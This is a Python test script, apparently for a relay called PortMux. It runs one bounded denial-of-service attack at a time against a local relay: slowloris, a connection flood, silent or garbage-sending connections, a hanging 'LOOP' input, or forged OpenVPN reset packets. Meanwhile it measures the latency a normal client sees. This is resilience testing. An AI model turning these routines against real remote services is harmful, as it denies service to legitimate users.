#!/usr/bin/python3
"""attack.py — one attack on a relay and a well-behaved client beside it.

  attack.py PORT ATTACK SECONDS [--udp-port P]

The well-behaved client (source 127.0.0.2) sends HTTP/1.0 GETs one after
another (5 s timeout each) for SECONDS while the attack (source 127.0.0.1)
runs; it prints "p99_ms=X median_ms=Y ok=N failed=M attack=WHAT".

Attacks (bounded in count and time):
  none      nothing: the baseline
  slowloris 3,000 connections, each sending a request line and then one
            byte of a header every 2 s
  silent    1,000 connections that never send a byte
  flood     new connections as fast as one process opens them, each
            sending a request and closing without reading
  garbage   500 connections sending 1 KiB of random bytes, then holding
  loop      1,000 connections sending "LOOP" (for a PortMux whose Python
            script loops forever on it)
  udp       forged 14-byte OpenVPN hard resets from 2,000 source ports to
            the UDP port (PortMux's flow table)
"""
import os
import socket
import statistics
import sys
import threading
import time

port = int(sys.argv[1])
attack = sys.argv[2]
secs = float(sys.argv[3])
udp_port = int(sys.argv[5]) if len(sys.argv) > 5 else port
stop = time.monotonic() + secs
held = []


def connect(timeout=2):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind(("127.0.0.1", 0))
    s.connect(("127.0.0.1", port))
    return s


def hold(n, first, every=None, chunk=b"x"):
    for _ in range(n):
        if time.monotonic() > stop:
            return
        try:
            s = connect()
            if first:
                s.sendall(first)
            held.append(s)
        except OSError:
            pass
    while every and time.monotonic() < stop:
        time.sleep(every)
        for s in held:
            try:
                s.send(chunk)
            except OSError:
                pass


def flood():
    while time.monotonic() < stop:
        try:
            s = connect(0.5)
            s.sendall(b"GET / HTTP/1.0\r\n\r\n")
            s.close()
        except OSError:
            pass


def udp():
    reset = bytes([0x38]) + os.urandom(8) + b"\x00" + b"\x00\x00\x00\x00"
    socks = []
    for _ in range(2000):
        if time.monotonic() > stop:
            break
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(("127.0.0.1", 0))
        try:
            u.sendto(reset, ("127.0.0.1", udp_port))
        except OSError:
            pass
        socks.append(u)
        if len(socks) % 200 == 0:
            time.sleep(0.05)
    while time.monotonic() < stop:
        for u in socks[:500]:
            try:
                u.sendto(reset, ("127.0.0.1", udp_port))
            except OSError:
                pass
        time.sleep(0.2)


attacks = {
    "none": lambda: None,
    "slowloris": lambda: hold(3000, b"GET / HTTP/1.1\r\nX-a: ", 2.0),
    "silent": lambda: hold(1000, None),
    "flood": flood,
    "garbage": lambda: hold(500, os.urandom(1024)),
    "loop": lambda: hold(1000, b"LOOP"),
    "udp": udp,
}
t = threading.Thread(target=attacks[attack], daemon=True)
t.start()
time.sleep(min(1.0, secs / 4))  # let it build up

lat, failed = [], 0
while time.monotonic() < stop:
    t0 = time.monotonic()
    try:
        c = socket.socket()
        c.settimeout(5)
        c.bind(("127.0.0.2", 0))
        c.connect(("127.0.0.1", port))
        c.sendall(b"GET / HTTP/1.0\r\nHost: www.test\r\n\r\n")
        data = b""
        while True:
            d = c.recv(4096)
            if not d:
                break
            data += d
        c.close()
        if data.startswith(b"HTTP/1.") and b"hello" in data:
            lat.append((time.monotonic() - t0) * 1000)
        else:
            failed += 1
    except OSError:
        failed += 1
    time.sleep(0.02)
if lat:
    lat.sort()
    p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))]
    print("p99_ms=%.1f median_ms=%.1f ok=%d failed=%d attack=%s"
          % (p99, statistics.median(lat), len(lat), failed, attack))
else:
    print("p99_ms=- median_ms=- ok=0 failed=%d attack=%s" % (failed, attack))
for s in held:
    s.close()
